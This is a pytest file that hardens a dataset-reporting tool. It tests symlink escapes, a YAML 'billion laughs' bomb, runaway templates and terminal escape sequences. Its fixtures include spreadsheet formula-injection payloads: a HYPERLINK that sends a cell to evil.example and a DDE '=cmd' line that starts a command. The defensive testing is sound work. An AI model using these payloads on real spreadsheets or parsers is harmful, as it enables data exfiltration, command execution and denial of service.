"""One test per attack class: what a hostile rule pack, template, catalogue or item file tries, and what
aireport does instead (exit 2 naming the file and the bound; nothing read from outside the folder, nothing
written, no formula in a spreadsheet, no control sequence on the terminal)."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import duckdb
import pytest
from click.testing import CliRunner, Result
from openpyxl import load_workbook

from aireport.cli import main
from aireport.render import html as html_module
from aireport.render.eu.domains import domains_csv
from tests.conftest import FIXTURES, TINY_PACK
from tests.test_eu_domains import crawl_items
from tests.test_eu_support import summary_of

ROOT = Path(__file__).resolve().parents[1]
SECRET = "TOP-SECRET-7d1f"  # written outside every folder a stranger controls; must never be read

BOMB = "".join(
    [
        'lol: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n',
        *(f"l{i}: &{chr(98 + i)} [" + ", ".join([f"*{chr(97 + i)}"] * 9) + "]\n" for i in range(9)),
    ]
)  # nine aliases to nine aliases ... to nine strings: 9**10 (3.5 billion) nodes once expanded


def run(*args: str, env: dict[str, str] | None = None) -> Result:
    return CliRunner(env=env).invoke(main, list(args))


def files(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in root.rglob("*") if p.is_file()}


def refused(result: Result, *fragments: str) -> None:
    assert result.exit_code == 2, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert "Traceback" not in result.output
    assert SECRET not in result.output
    for fragment in fragments:
        assert fragment in result.output, result.output


def no_controls(text: str) -> None:
    """Nothing a terminal would obey: no C0 control but the newline, no DEL, no C1 control."""
    bad = [c for c in text if (ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) < 0xA0]
    assert not bad, f"raw control characters {bad!r} in {text!r}"


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(f"{SECRET}\n")
    return path


def report_args(tiny: Path, out: Path, templates: Path) -> list[str]:
    return [
        "report",
        str(tiny),
        "--pack",
        TINY_PACK,
        "--document",
        "findings",
        "--format",
        "html",
        "--out",
        str(out),
        "--date",
        "2026-01-01",
        "--quiet",
        "--templates",
        str(templates),
    ]


def user_templates(tmp_path: Path, body: str = "<html>{{ doc.dataset }}</html>\n") -> Path:
    folder = tmp_path / "tpl"
    (folder / "findings").mkdir(parents=True)
    (folder / "findings" / "document.html.j2").write_text(body)
    return folder


# --- confinement ---------------------------------------------------------------------------------------------


def test_a_symlinked_template_is_refused(tiny: Path, tmp_path: Path, secret: Path) -> None:
    folder = tmp_path / "tpl"
    (folder / "findings").mkdir(parents=True)
    (folder / "findings" / "document.html.j2").symlink_to(secret)
    refused(run(*report_args(tiny, tmp_path / "out", folder)), "document.html.j2", "outside the template folder")
    assert not (tmp_path / "out").exists()


def test_a_symlinked_template_folder_is_refused(tiny: Path, tmp_path: Path, secret: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "document.html.j2").write_text("{% include 'x' %}" + SECRET)
    folder = tmp_path / "tpl"
    folder.mkdir()
    (folder / "findings").symlink_to(elsewhere, target_is_directory=True)
    refused(run(*report_args(tiny, tmp_path / "out", folder)), "findings/document.html.j2", "outside")


def test_a_template_including_a_symlink_is_refused_at_the_include(tiny: Path, tmp_path: Path, secret: Path) -> None:
    folder = user_templates(tmp_path, "<html>\n{% include 'findings/part.html.j2' %}\n</html>\n")
    (folder / "findings" / "part.html.j2").symlink_to(secret)
    refused(run(*report_args(tiny, tmp_path / "out", folder)), "document.html.j2:2", "part.html.j2", "outside")


@pytest.mark.parametrize("linked", ["file", "folder"])
def test_a_symlinked_catalogue_is_refused(tiny: Path, tmp_path: Path, linked: str) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "en.yaml").write_text(f"outcome:\n  fail: {SECRET}\n")
    folder = user_templates(tmp_path, "<html>{{ t('outcome.fail') }}</html>\n")
    if linked == "file":
        (folder / "i18n").mkdir()
        (folder / "i18n" / "en.yaml").symlink_to(elsewhere / "en.yaml")
    else:
        (folder / "i18n").symlink_to(elsewhere, target_is_directory=True)
    refused(run(*report_args(tiny, tmp_path / "out", folder)), "i18n/en.yaml", "outside the template folder")


@pytest.mark.parametrize("name", ["T-LINK.yaml", "pack.yaml"])
def test_a_symlinked_pack_file_is_refused(tiny: Path, tmp_path: Path, name: str) -> None:
    pack = tmp_path / "pack"
    pack.mkdir()
    outside = tmp_path / "outside.yaml"
    for source in (FIXTURES / "packs" / "tiny").glob("*.yaml"):
        (pack / source.name).write_text(source.read_text())
    if name == "pack.yaml":
        (pack / "pack.yaml").rename(outside)
    else:
        outside.write_text((pack / "T-ROBOTS.yaml").read_text().replace("T-ROBOTS", "T-LINK") + f"# {SECRET}\n")
    (pack / name).symlink_to(outside)
    refused(run("check", str(tiny), "--pack", str(pack)), name, "outside the pack folder")


def test_a_link_inside_the_folder_to_the_folder_is_followed(tiny: Path, tmp_path: Path) -> None:
    """Confinement is by real path, not by refusing links: a link that stays inside the folder is fine."""
    folder = user_templates(tmp_path)
    (folder / "findings" / "document.html.j2").rename(folder / "page.j2")
    (folder / "findings" / "document.html.j2").symlink_to(folder / "page.j2")
    result = run(*report_args(tiny, tmp_path / "out", folder))
    assert result.exit_code == 0, result.output
    assert (tmp_path / "out" / "findings.en.html").read_text() == "<html>tiny-corpus</html>\n"


def test_manifest_paths_may_lead_anywhere_and_every_file_read_is_listed(tmp_path: Path) -> None:
    """Item files outside the manifest's folder are the user's own data: read, and listed with their digest."""
    data = tmp_path / "data"
    data.mkdir()
    (data / "items.csv").write_bytes((FIXTURES / "tiny" / "items.csv").read_bytes())
    folder = tmp_path / "m"
    folder.mkdir()
    manifest = folder / "manifest.yaml"
    manifest.write_text((FIXTURES / "tiny" / "manifest.yaml").read_text().replace("[items.csv]", "[../data/items.csv]"))
    out = tmp_path / "r.json"
    result = run("check", str(manifest), "--pack", TINY_PACK, "--out", str(out), "--date", "2026-01-01")
    assert result.exit_code == 1, result.output
    inputs = {i["path"]: i for i in json.loads(out.read_text())["inputs"]}
    listed = inputs["../data/items.csv"]
    assert listed["role"] == "items"
    assert listed["sha256"] == hashlib.sha256((data / "items.csv").read_bytes()).hexdigest()
    assert inputs["manifest.yaml"]["sha256"] == hashlib.sha256(manifest.read_bytes()).hexdigest()


# --- bounds ----------------------------------------------------------------------------------------------------


def test_a_template_that_loops_is_stopped_at_the_time_limit(
    tiny: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(html_module, "RENDER_SECONDS", 2.0)
    loop = "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}"
    folder = user_templates(tmp_path, loop)
    started = time.monotonic()
    result = run(*report_args(tiny, tmp_path / "out", folder))
    assert time.monotonic() - started < 30
    refused(result, "document.html.j2", "longer than 2 s (the time limit)")
    assert not (tmp_path / "out").exists()


@pytest.mark.slow
def test_a_template_that_loops_is_stopped_by_the_real_cli_within_seconds(tiny: Path, tmp_path: Path) -> None:
    """The shipped bound, through a real process (no monkeypatch): stopped, located, exit 2."""
    folder = user_templates(
        tmp_path, "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}"
    )
    started = time.monotonic()
    done = subprocess.run(
        [sys.executable, "-m", "aireport", *report_args(tiny, tmp_path / "out", folder)],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "PYTHONPATH": str(ROOT / "src")},
        check=False,
    )
    elapsed = time.monotonic() - started
    assert done.returncode == 2, done.stderr
    assert "document.html.j2" in done.stderr
    assert "(the time limit)" in done.stderr
    assert "Traceback" not in done.stderr
    assert elapsed < html_module.RENDER_SECONDS + 30
    assert not (tmp_path / "out").exists()


def test_a_template_that_grows_without_end_is_stopped_at_the_size_limit(
    tiny: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(html_module, "RENDER_CHARACTERS", 1_000_000)
    body = "{% for a in range(100000) %}{% for b in range(100000) %}<p>{{ a }}{{ b }}</p>{% endfor %}{% endfor %}"
    refused(
        run(*report_args(tiny, tmp_path / "out", user_templates(tmp_path, body))),
        "document.html.j2",
        "beyond 1,000,000 characters (the size limit)",
    )


def test_a_template_that_allocates_gigabytes_is_stopped_at_the_memory_limit(tiny: Path, tmp_path: Path) -> None:
    body = "{{ 'x' | center(4000000000) }}"  # one filter call, 4 GB of text
    refused(
        run(*report_args(tiny, tmp_path / "out", user_templates(tmp_path, body))),
        "document.html.j2",
        "(the memory limit)",
    )


@pytest.mark.parametrize("where", ["manifest", "rule", "catalogue", "statements"])
def test_yaml_billion_laughs_is_refused_within_seconds(tiny: Path, tmp_path: Path, where: str) -> None:
    started = time.monotonic()
    if where == "manifest":
        tiny.write_text(BOMB + tiny.read_text())
        result = run("check", str(tiny), "--pack", TINY_PACK)
        name = "manifest.yaml"
    elif where == "rule":
        pack = tmp_path / "pack"
        pack.mkdir()
        for source in (FIXTURES / "packs" / "tiny").glob("*.yaml"):
            (pack / source.name).write_text(source.read_text())
        (pack / "T-ROBOTS.yaml").write_text(BOMB + (pack / "T-ROBOTS.yaml").read_text())
        result = run("check", str(tiny), "--pack", str(pack))
        name = "T-ROBOTS.yaml"
    elif where == "catalogue":
        folder = user_templates(tmp_path)
        (folder / "i18n").mkdir()
        (folder / "i18n" / "en.yaml").write_text(BOMB)
        result = run(*report_args(tiny, tmp_path / "out", folder))
        name = "en.yaml"
    else:
        statements = tmp_path / "statements.yaml"
        statements.write_text(BOMB + "schema_version: 1\n")
        result = run(
            "cn-assess",
            str(tiny),
            "--assessment-date",
            "2025-10-01",
            "--statements",
            str(statements),
            "--out",
            str(tmp_path / "out"),
            "--format",
            "json",
            "--quiet",
        )
        name = "statements.yaml"
    assert time.monotonic() - started < 30
    refused(result, name, "beyond 100,000 nodes (the limit)")


@pytest.mark.parametrize("where", ["manifest", "condition", "document"])
def test_deep_nesting_is_refused_not_a_recursion_error(tiny: Path, tmp_path: Path, where: str) -> None:
    if where == "manifest":
        tiny.write_text(tiny.read_text().replace("dataset: tiny-corpus", "dataset: " + "[" * 100_000 + "]" * 100_000))
        refused(run("check", str(tiny), "--pack", TINY_PACK), "manifest.yaml:2", "deeper than 64 levels")
    elif where == "condition":
        pack = tmp_path / "pack"
        pack.mkdir()
        for source in (FIXTURES / "packs" / "tiny").glob("*.yaml"):
            (pack / source.name).write_text(source.read_text())
        deep = "{not: " * 17 + "{is_true: robots_allowed}" + "}" * 17
        rule = pack / "T-ROBOTS.yaml"
        rule.write_text(rule.read_text().replace("{is_true: robots_allowed}", deep))
        refused(run("check", str(tiny), "--pack", str(pack)), "T-ROBOTS.yaml:7", "deeper than 16 levels")
    else:
        doc = tmp_path / "findings.json"
        doc.write_text('{"document": "findings", "x": ' + "[" * 100_000 + "]" * 100_000 + "}")
        refused(run("render", str(doc), "--out", str(tmp_path / "out")), "findings.json:1", "deeper than 64 levels")


# --- neutralised outputs ------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "'=1"]


def formula_items(tiny: Path) -> None:
    """Item ids and a domain that a spreadsheet would run as formulas."""
    lines = (tiny.parent / "items.csv").read_text().splitlines()
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([*lines[0].split(","), "domain"])
    for index, line in enumerate(lines[1:]):
        cells = next(csv.reader([line]))
        if index < len(FORMULAS):
            cells[0] = FORMULAS[index]
        writer.writerow([*cells, "=cmd|' /C calc'!A0" if cells[1] == "web" else ""])
    (tiny.parent / "items.csv").write_text(out.getvalue())


def test_formulas_in_item_ids_stay_text_in_the_xlsx_sample(tiny: Path, tmp_path: Path) -> None:
    formula_items(tiny)
    out = tmp_path / "sample.xlsx"
    result = run("sample", str(tiny), "--seed", "1", "--per-source", "5", "--corpus", "10", "--out", str(out))
    assert result.exit_code == 0, result.output
    sheet = load_workbook(out)["sample"]
    ids = {}
    for row in sheet.iter_rows(min_row=2):
        cell = row[0]
        assert cell.data_type == "s", (cell.value, cell.data_type)  # a string, never a formula ('f')
        assert cell.quotePrefix, cell.value  # and it stays text when someone edits it
        ids[cell.value] = cell
    assert set(FORMULAS) <= set(ids)  # the ids themselves, unchanged


def test_formulas_in_item_ids_are_inert_in_the_csv_sample_and_read_back_exactly(tiny: Path, tmp_path: Path) -> None:
    formula_items(tiny)
    out = tmp_path / "sample.csv"
    assert (
        run("sample", str(tiny), "--seed", "1", "--per-source", "5", "--corpus", "10", "--out", str(out)).exit_code == 0
    )
    rows = list(
        csv.reader(line for line in out.read_text(encoding="utf-8-sig").splitlines() if not line.startswith("#"))
    )
    cells = [r[0] for r in rows[1:]]
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"x")' in cells
    assert "''=1" in cells  # a text that starts with an apostrophe keeps its own
    # The reviewer fills it in; cn-assess reads every id back exactly as drawn.
    header = rows[0]
    for row in rows[1:]:
        row[header.index("verdict")] = "qualified"
    reviewed = tmp_path / "reviewed.csv"
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    reviewed.write_text(buffer.getvalue())
    result = run(
        "cn-assess",
        str(tiny),
        "--assessment-date",
        "2025-10-01",
        "--reviewed",
        str(reviewed),
        "--seed",
        "1",
        "--per-source",
        "5",
        "--corpus",
        "10",
        "--out",
        str(tmp_path / "report"),
        "--format",
        "json",
        "--quiet",
    )
    assert result.exit_code in (0, 1), result.output  # every id matched the re-drawn sample exactly


def test_a_formula_domain_is_inert_in_the_domain_csv(tmp_path: Path) -> None:
    sizes = {"=evil.example": 300, "+evil.example": 200, "good.example": 100}
    sizes |= {f"d{i:02d}.example": i + 1 for i in range(27)}  # 30 domains: the top 10%, three, are listed
    doc = summary_of(tmp_path, items=crawl_items(sizes))
    rows = list(csv.reader(io.StringIO(domains_csv(doc).decode("utf-8"))))
    domains = [r[1] for r in rows[1:]]
    assert all(not d.startswith(("=", "+", "-", "@")) for d in domains), domains
    assert {"'=evil.example", "'+evil.example", "good.example"} <= set(domains)


# --- terminal -------------------------------------------------------------------------------------------------

ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[1;32mOK\x1b[0m\x9b2K\u202e"  # retitle, clear, fake OK, C1 CSI, bidi


def test_control_sequences_in_an_item_id_are_escaped_in_errors(tiny: Path) -> None:
    items = tiny.parent / "items.csv"
    rows = list(csv.reader(io.StringIO(items.read_text())))
    rows[-1][:2] = [f"c3{ESCAPES}", f"nowhere{ESCAPES}"]  # quoted where needed: a valid CSV with hostile values
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    items.write_text(out.getvalue())
    result = run("check", str(tiny), "--pack", TINY_PACK)
    refused(result, "\\x1b]0;owned\\x07", "\\u202e")
    no_controls(result.output)


def test_control_sequences_in_a_yaml_key_are_escaped(tiny: Path) -> None:
    tiny.write_text(tiny.read_text().replace("provider:", '"x\\e[2J\\e]0;t\\a": 1\nprovider:'))
    result = run("check", str(tiny), "--pack", TINY_PACK)
    refused(result, "manifest.yaml:", "\\x1b[2J")
    no_controls(result.output)


def test_control_sequences_in_the_dataset_name_and_a_rule_title_are_escaped_in_tables(
    tiny: Path, tmp_path: Path
) -> None:
    tiny.write_text(tiny.read_text().replace("dataset: tiny-corpus", 'dataset: "tiny\\e[2J\\e]0;x\\a"'))
    pack = tmp_path / "pack"
    pack.mkdir()
    for source in (FIXTURES / "packs" / "tiny").glob("*.yaml"):
        (pack / source.name).write_text(source.read_text())
    rule = pack / "T-ROBOTS.yaml"
    rule.write_text(
        rule.read_text().replace(
            "title: {en: Crawled items obey robots.txt,",
            'title: {en: "\\e[1;32mOK\\e[0m Crawled items obey robots.txt",',
        )
    )
    table = run("check", str(tiny), "--pack", str(pack))
    assert table.exit_code == 1, table.output
    assert "tiny\\x1b[2J" in table.output
    assert "\\x1b[1;32mOK" in table.output
    no_controls(table.output)
    listing = run("rules", "--pack", str(pack), env={"COLUMNS": "400"})
    assert listing.exit_code == 0
    assert "\\x1b[1;32mOK" in listing.output
    no_controls(listing.output)


# --- paths are paths ------------------------------------------------------------------------------------------


def test_a_star_in_a_file_name_is_a_star(tiny: Path) -> None:
    """items: ['a*.csv'] reads the file named a*.csv, not every a....csv beside it."""
    folder = tiny.parent
    (folder / "a*.csv").write_text((folder / "items.csv").read_text())
    (folder / "another.csv").write_text((folder / "items.csv").read_text().replace("w1,", "x1,"))
    tiny.write_text(tiny.read_text().replace("items: [items.csv]", "items: ['a*.csv']"))
    result = run("check", str(tiny), "--pack", TINY_PACK, "--format", "json", "--date", "2026-01-01")
    assert result.exit_code == 1, result.output
    data = json.loads(result.stdout)
    assert data["rows"]["read"] == 10  # one file of ten rows, not twenty
    assert [i["path"] for i in data["inputs"] if i["role"] == "items"] == ["a*.csv"]


def test_a_glob_is_read_only_when_written_as_one(tiny: Path) -> None:
    folder = tiny.parent
    (folder / "parts").mkdir()
    lines = (folder / "items.csv").read_text().splitlines()
    (folder / "parts" / "p1.csv").write_text("\n".join(lines[:6]) + "\n")
    (folder / "parts" / "p2.csv").write_text("\n".join([lines[0], *lines[6:]]) + "\n")
    tiny.write_text(tiny.read_text().replace("items: [items.csv]", "items: [{glob: 'parts/p*.csv'}]"))
    result = run("check", str(tiny), "--pack", TINY_PACK, "--format", "json", "--date", "2026-01-01")
    assert result.exit_code == 1, result.output
    assert json.loads(result.stdout)["rows"]["read"] == 10


def _partitioned(tiny: Path, folder: str) -> Path:
    """items.csv as Parquet under a folder named like a partition (language=xx) that contradicts the column."""
    target = tiny.parent / "lake" / folder
    target.mkdir(parents=True)
    duckdb.connect().execute(
        f"COPY (SELECT * FROM read_csv('{tiny.parent / 'items.csv'}', header = true)) TO '{target / 'items.parquet'}' "
        "(FORMAT parquet)"
    )
    return target


def test_a_folder_named_like_a_partition_changes_nothing_unless_asked(tiny: Path) -> None:
    expected = json.loads(
        run("check", str(tiny), "--pack", TINY_PACK, "--format", "json", "--date", "2026-01-01").stdout
    )
    _partitioned(tiny, "modality=text")
    tiny.write_text(tiny.read_text().replace("items: [items.csv]", "items: [lake/]"))
    found = json.loads(run("check", str(tiny), "--pack", TINY_PACK, "--format", "json", "--date", "2026-01-01").stdout)
    # the three images stay images: the folder name is not a column
    assert found["measures"] == expected["measures"]
    assert found["rules"] == expected["rules"]


def test_hive_partitions_are_columns_where_the_manifest_says_so(tiny: Path) -> None:
    folder = tiny.parent / "lake"
    duckdb.connect().execute(
        f"COPY (SELECT * EXCLUDE (source_id), source_id FROM read_csv('{tiny.parent / 'items.csv'}', header = true)) "
        f"TO '{folder}' (FORMAT parquet, PARTITION_BY (source_id))"
    )
    expected = json.loads(
        run("check", str(tiny), "--pack", TINY_PACK, "--format", "json", "--date", "2026-01-01").stdout
    )
    tiny.write_text(tiny.read_text().replace("items: [items.csv]", "items: [{path: lake/, hive: true}]"))
    found = json.loads(run("check", str(tiny), "--pack", TINY_PACK, "--format", "json", "--date", "2026-01-01").stdout)
    assert found["rules"] == expected["rules"]
    assert found["rows"] == expected["rows"]
    tiny.write_text(tiny.read_text().replace("items: [{path: lake/, hive: true}]", "items: [lake/]"))
    without = run("check", str(tiny), "--pack", TINY_PACK)  # the files hold no source_id: refused, not guessed
    refused(without, "source_id", "required column is missing")
